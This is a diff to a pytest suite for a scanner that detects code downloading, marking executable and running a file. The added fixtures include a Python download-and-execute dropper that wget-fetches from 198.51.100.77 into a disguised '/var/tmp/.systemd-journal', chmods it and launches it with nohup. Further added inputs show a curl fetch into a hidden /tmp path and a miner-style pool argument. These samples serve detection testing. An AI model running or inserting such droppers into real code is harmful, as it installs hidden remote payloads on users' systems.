@@ -82,6 +82,15 @@ async def main():
     subprocess.run([path])
 """
 
+PY_FORMAT = """\
+import os
+BIN = "/var/tmp/.systemd-journal"
+URL = "http://198.51.100.77/j"
+os.system("wget -q %s -O %s" % (URL, BIN))
+os.system("chmod 755 {}".format(BIN))
+os.system("nohup {bin} >/dev/null 2>&1 &".format(bin=BIN))
+"""
+
 
 @pytest.mark.parametrize(
     ("source", "name", "line", "least"),
@@ -92,8 +101,17 @@ async def main():
         (PY_SHELL_NAME, "update.py", 3, Severity.MEDIUM),
         (PY_EXECV, "agent.py", 3, Severity.MEDIUM),
         (PY_ASYNC, "sync.py", 4, Severity.LOW),
+        (PY_FORMAT, "cron.py", 4, Severity.MEDIUM),
     ],
-    ids=["node-api", "node-methods", "py-argv", "py-shell-name", "py-execv", "py-async"],
+    ids=[
+        "node-api",
+        "node-methods",
+        "py-argv",
+        "py-shell-name",
+        "py-execv",
+        "py-async",
+        "py-format",
+    ],
 )
 def test_a_download_made_executable_and_run_through_library_calls_is_found(
     source: str, name: str, line: int, least: Severity
@@ -124,6 +142,9 @@ def test_a_detached_start_from_a_temp_path_is_a_hidden_background_start() -> Non
         ('x = "/usr/" + "bin/env"\nsubprocess.check_call([x, "true"])', "/usr/bin/env true"),
         ('os.execl("/bin/sh", "sh", "-c", "id")', "/bin/sh -c id"),
         ('os.system("ls -l " + d)', "ls -l $d"),
+        ('p = "/tmp/.x"\nos.system("curl -so %s %s" % (p, u))', "curl -so /tmp/.x $u"),
+        ('os.system("echo %d%% done" % n)', "echo $n% done"),
+        ('os.system("{} -B --url {pool}".format(p, pool="h:1"))', "$p -B --url h:1"),
         ('const p = require("path");\nexecFile(p.join(__dirname, "bin", "x"))', "./bin/x"),
         ('spawn(["a", "b"].join("/"))', None),
         ('spawn("/usr/bin/" + "env", ["ls"])', "/usr/bin/env ls"),
